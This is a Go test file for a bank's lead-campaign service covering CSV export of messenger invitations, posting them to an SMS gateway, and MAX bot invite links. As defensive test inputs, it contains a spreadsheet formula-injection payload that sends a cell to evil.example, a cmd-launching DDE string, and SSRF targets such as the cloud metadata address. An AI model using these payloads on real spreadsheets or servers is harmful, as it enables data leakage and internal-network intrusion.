package campaigns_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"dozvon/campaigns"
	"dozvon/messenger"
)

func TestLeadsWithoutAChatAreExportedAndPostedToTheSMSGateway(t *testing.T) {
	b := newBank(t)
	b.missedCall(clientSpec{company: "ООО Без чата", phone: "+79180000001"})
	b.derive()
	var calls atomic.Int32
	var got map[string]any
	gateway := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if calls.Add(1) == 1 {
			http.Error(w, "busy", http.StatusBadGateway) // the first post fails and is retried
			return
		}
		body, _ := io.ReadAll(r.Body)
		_ = json.Unmarshal(body, &got)
	}))
	defer gateway.Close()
	c := b.campaign(campaigns.MissedCall, func(c *campaigns.Campaign) { c.InviteWebhook = gateway.URL })
	b.store.BotUsername = "dozvon_bank_bot"
	if r := b.run(c); r.Invited != 1 {
		t.Fatalf("run %+v", r)
	}

	var csv bytes.Buffer
	if err := b.store.WriteInvitationsCSV(b.ctx, c.ID, &csv); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(strings.TrimPrefix(csv.String(), "\ufeff")), "\n")
	if len(lines) != 2 || lines[0] != "phone;company;contact_name;link;invited_at;followed_at" ||
		!strings.HasPrefix(lines[1], "'+79180000001;ООО Без чата;Ирина;https://t.me/dozvon_bank_bot?start=") {
		t.Fatalf("csv:\n%s", csv.String())
	}

	b.store.Gateway = campaigns.GatewayClient(true) // the test's gateway listens on loopback
	n, err := b.store.PostInvitations(b.ctx, c)
	if err != nil || n != 1 || calls.Load() != 2 {
		t.Fatalf("posted %d (%v) in %d calls", n, err, calls.Load())
	}
	invs := got["invitations"].([]any)
	if len(invs) != 1 || invs[0].(map[string]any)["phone"] != "+79180000001" {
		t.Fatalf("gateway got %v", got)
	}
	if n, _ := b.store.PostInvitations(b.ctx, c); n != 0 {
		t.Fatal("posted the same invitation twice")
	}
}

// Company names come from the bank's files and API pushes: the SMS team opens the export in Excel, where a name
// such as =HYPERLINK(...) must stay a name.
func TestInvitationsExportNeutralisesSpreadsheetFormulas(t *testing.T) {
	b := newBank(t)
	b.missedCall(clientSpec{company: `=HYPERLINK("https://evil.example/?leak="&A1,"Ромашка")`, phone: "+79180000002"})
	b.missedCall(clientSpec{company: "@SUM(1+1)*cmd|' /C calc'!A0", phone: "+79180000003"})
	b.derive()
	c := b.campaign(campaigns.MissedCall, func(c *campaigns.Campaign) {})
	b.store.BotUsername = "dozvon_bank_bot"
	if r := b.run(c); r.Invited != 2 {
		t.Fatalf("run %+v", r)
	}
	var file bytes.Buffer
	if err := b.store.WriteInvitationsCSV(b.ctx, c.ID, &file); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(file.String(), "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("%d rows (%v):\n%s", len(rows), err, file.String())
	}
	companies := []string{rows[1][1], rows[2][1]}
	slices.Sort(companies)
	want := []string{`'=HYPERLINK("https://evil.example/?leak="&A1,"Ромашка")`, `'@SUM(1+1)*cmd|' /C calc'!A0`}
	if !slices.Equal(companies, want) {
		t.Fatalf("companies in the file: %q, want %q", companies, want)
	}
}

// A manager types the gateway's URL: it must not reach the server's own network (a database's HTTP port, a
// cloud's metadata service) unless the bank says its gateway is inside (DOZVON_SMS_ALLOW_PRIVATE). The address is
// checked as the connection is made, so a public-looking name that resolves to loopback is refused too, and a
// gateway's redirect is not followed.
func TestSMSGatewayWebhookReachesNoPrivateAddressAndFollowsNoRedirect(t *testing.T) {
	b := newBank(t)
	b.missedCall(clientSpec{company: "ООО Без чата", phone: "+79180000001"})
	b.derive()
	var internal atomic.Int32
	inside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { internal.Add(1) }))
	defer inside.Close()
	_, port, _ := net.SplitHostPort(inside.Listener.Addr().String())
	c := b.campaign(campaigns.MissedCall, func(c *campaigns.Campaign) { c.InviteWebhook = inside.URL })
	if r := b.run(c); r.Invited != 1 {
		t.Fatalf("run %+v", r)
	}
	for _, target := range []string{inside.URL, "http://localhost:" + port + "/sms", "http://[::ffff:127.0.0.1]:" + port,
		"http://10.0.0.1:" + port, "http://169.254.169.254/latest/meta-data/", "http://0.0.0.0:" + port} {
		c.InviteWebhook = target
		n, err := b.store.PostInvitations(b.ctx, c)
		if n != 0 || !errors.Is(err, campaigns.ErrPrivateGateway) {
			t.Errorf("%s: posted %d, %v; want ErrPrivateGateway", target, n, err)
		}
	}
	if internal.Load() != 0 {
		t.Fatalf("the server inside was called %d times", internal.Load())
	}

	// A gateway the bank allows that answers with a redirect to somewhere else: the post failed, nothing follows.
	b.store.Gateway = campaigns.GatewayClient(true)
	redirect := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, inside.URL+"/admin", http.StatusTemporaryRedirect)
	}))
	defer redirect.Close()
	c.InviteWebhook = redirect.URL
	if n, err := b.store.PostInvitations(b.ctx, c); n != 0 || !strings.Contains(fmt.Sprint(err), `the gateway redirects (not followed; set the address it redirects to): 307 Temporary Redirect to "`+inside.URL+`/admin"`) {
		t.Errorf("a redirecting gateway: posted %d, %v", n, err)
	}
	if internal.Load() != 0 {
		t.Fatalf("the redirect was followed: the server inside was called %d times", internal.Load())
	}
	c.InviteWebhook = inside.URL
	if n, err := b.store.PostInvitations(b.ctx, c); n != 1 || err != nil || internal.Load() != 1 {
		t.Fatalf("an allowed private gateway: posted %d, %v, %d calls", n, err, internal.Load())
	}
}

// A campaign that prefers MAX (the default: MAX, then Telegram) invites a lead reachable on no messenger with a
// max.ru link to the MAX bot, and the invitation names its channel and bot (the bot_started that follows it links the chat).
func TestAnInvitationToTheMAXBotIsAMaxRuLink(t *testing.T) {
	b := newBank(t)
	b.missedCall(clientSpec{company: "ООО Только МАКС", phone: "+79180000004"})
	b.derive()
	bot, err := messenger.NewBots(b.pool).Register(b.ctx, messenger.MAX, "900000001", "dozvon_max_bot")
	if err != nil {
		t.Fatal(err)
	}
	b.store.BotUsername = "dozvon_bank_bot"
	c := b.campaign(campaigns.MissedCall, func(c *campaigns.Campaign) {})
	if r := b.run(c); r.Invited != 1 {
		t.Fatalf("run %+v", r)
	}
	list, err := b.store.Invitations(b.ctx, c.ID, false)
	if err != nil || len(list) != 1 {
		t.Fatalf("invitations %+v, %v", list, err)
	}
	channel, name, token, err := messenger.ParseInviteLink(list[0].Link)
	if err != nil || channel != messenger.MAX || name != "dozvon_max_bot" || list[0].Channel != messenger.MAX ||
		!strings.HasPrefix(list[0].Link, "https://max.ru/dozvon_max_bot?start=") {
		t.Fatalf("invitation %+v: link read as %q %q %q %v", list[0], channel, name, token, err)
	}
	var botID int64
	if err := b.pool.QueryRow(b.ctx, `SELECT bot_id FROM invitations WHERE token = $1`, token).Scan(&botID); err != nil || botID != bot.ID {
		t.Fatalf("the invitation's bot is %d (%v), want %d", botID, err, bot.ID)
	}
}
